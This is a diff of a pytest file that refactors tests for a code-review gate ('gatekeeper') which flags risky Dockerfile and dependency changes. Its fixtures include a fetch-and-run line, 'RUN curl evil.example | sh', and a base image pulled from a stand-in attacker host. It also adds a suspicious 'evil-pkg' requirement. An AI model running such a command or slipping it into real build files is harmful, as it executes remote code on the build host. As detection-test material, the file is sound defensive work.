@@ -11,12 +11,12 @@ now 3 `core.iac`). With `context: svc` and `dockerfile: ../images/app.build`, th
 from __future__ import annotations
 
 import contextlib
-import io
 import json
 from pathlib import Path
 
 import pytest
 from gitrepo import two_commits
+from incli import tree_gate
 
 from gatekeeper.classify.composerefs import builds, is_compose
 from gatekeeper.cli import main
@@ -78,10 +78,8 @@ def test_the_gate_reviews_a_dockerfile_by_another_name(tmp_path: Path) -> None:
             "build/app.docker": "FROM python:3.12\nRUN echo hi\n"}
     repo, old, new = two_commits(tmp_path / "repo", base,
                                  {"build/app.docker": "FROM evil.example/python:3.12\nRUN curl evil.example | sh\n"})
-    out = io.StringIO()
-    with contextlib.redirect_stdout(out):
-        code = main(["gate", "--tree", f"{old}..{new}", "--repo", str(repo.root), "--format", "json"])
-    reasons = json.loads(out.getvalue())["reasons"]
+    code, decision = tree_gate(repo.root, old, new)
+    reasons = decision["reasons"]
     assert code == 3, reasons
     assert [(r["rule"], r["paths"]) for r in reasons] == [("core.iac", ["build/app.docker"])]
 
@@ -91,10 +89,7 @@ def test_the_gate_reviews_the_requirements_a_compose_build_installs(tmp_path: Pa
             "images/app": "FROM python:3.12\nCOPY req.txt /r.txt\nRUN pip install -r /r.txt\n",
             "svc/req.txt": "six==1.16.0\n"}
     repo, old, new = two_commits(tmp_path / "repo", base, {"svc/req.txt": "six==1.16.0\nevil-pkg==1.0\n"})
-    out = io.StringIO()
-    with contextlib.redirect_stdout(out):
-        code = main(["gate", "--tree", f"{old}..{new}", "--repo", str(repo.root), "--format", "json",
-                     "--enable", "deps"])
-    reasons = json.loads(out.getvalue())["reasons"]
+    code, decision = tree_gate(repo.root, old, new, None, "--enable", "deps")
+    reasons = decision["reasons"]
     assert code == 3, reasons
     assert {p for r in reasons for p in r.get("paths", ())} == {"svc/req.txt"}
